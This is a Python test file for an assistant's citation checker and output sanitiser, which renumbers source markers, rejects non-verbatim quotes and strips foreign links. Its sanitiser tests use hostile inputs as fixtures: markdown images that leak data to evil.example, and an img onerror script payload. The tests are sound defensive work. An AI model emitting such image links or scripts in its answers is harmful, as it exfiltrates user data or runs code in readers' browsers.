"""Marker verification, quote checks and output sanitising."""
from __future__ import annotations

import pytest

from assistant.citations import escape_markdown, sanitize, unescape_markdown, verify
from assistant.types import Passage


def _p(n, text, url="https://example.org/a"):
    return Passage(chunk_id=f"c{n}", text=text, score=1.0, doc_id=f"d{n}", version="v", title=f"T{n}",
                   doc_type="law", jurisdiction="US", language="en", section="S", page=None,
                   source_url=url, publisher="", effective_date="2024-01-01", last_verified="2026-11-01")


P = [_p(1, "Apps must pay at least the minimum rate for trip time."), _p(2, "Tips are extra.")]


@pytest.mark.parametrize("text,want_text,want_docs,warn", [
    ("Pay is required [1].", "Pay is required [1].", ["d1"], False),
    ("Tips are extra [2]. Pay [1].", "Tips are extra [1]. Pay [2].", ["d2", "d1"], False),  # renumbered
    ("Made up [7].", "Made up.", [], True),                                              # unknown dropped
    ("Both [1, 2] and again [1][1].", "Both [1][2] and again [1].", ["d1", "d2"], False),
    ("No markers at all.", "No markers at all.", [], False),
])
def test_markers(text, want_text, want_docs, warn):
    v = verify(text, P)
    assert v.text == want_text
    assert [c.doc_id for c in v.citations] == want_docs
    assert bool(v.warnings) == warn
    assert all(c.quote == P[int(c.doc_id[1]) - 1].text for c in v.citations)  # quote = whole passage


def test_quotes_must_be_verbatim():
    ok = verify('The rule says "must pay at least the minimum rate" [1].', P)
    assert '"must pay at least the minimum rate"' in ok.text and not ok.warnings
    bad = verify('The rule says "apps never have to pay anything at all" [1].', P)
    assert '"apps never' not in bad.text and "word for word" in bad.warnings[0]


def test_sanitize_removes_images_html_and_foreign_links():
    text, warnings = sanitize('![x](http://evil.example/?q=1) <img src=x onerror=alert(1)> '
                              '[ok](https://example.org/a) [bad](http://evil.example) <https://evil.example>',
                              ["https://example.org/a"])
    assert "evil" not in text and "onerror" not in text and "[ok](https://example.org/a)" in text
    assert len(warnings) == 3  # image, HTML, foreign links


def test_markdown_escaping_round_trips():
    raw = "See [this](http://x) and **bold** <b>#1</b> 100% $5"
    esc = escape_markdown(raw)
    assert "[this](" not in esc and unescape_markdown(esc) == raw


@pytest.mark.parametrize("text", [
    "See ![chart](https://evil.example/leak?q=secret) here.",
    "See ![chart][r] here.\n\n[r]: https://evil.example/leak.png",
    "See &#33;[chart](https://evil.example/leak) here.",
    "See &lt;img src=https://evil.example/leak&gt; here.",
    "Go to https://evil.example/leak?q=secret now.",
    "Go to www.evil.example/leak now.",
    "Go to <https://evil.example/leak> now.",
    "Go to [the page][r].\n\n[r]: https://evil.example/leak",
])
def test_sanitize_leaves_no_fetchable_or_foreign_url(text):
    """Regression: reference-style images, bare URLs and entities survived the final check."""
    out, warnings = sanitize(text, ["https://www.seattle.gov/laborstandards"])
    assert "evil.example" not in out and warnings


def test_sanitize_keeps_the_cited_sources_links():
    text = "Ask [OLS](https://www.seattle.gov/laborstandards) or https://www.seattle.gov/laborstandards."
    assert sanitize(text, ["https://www.seattle.gov/laborstandards"]) == (text, [])
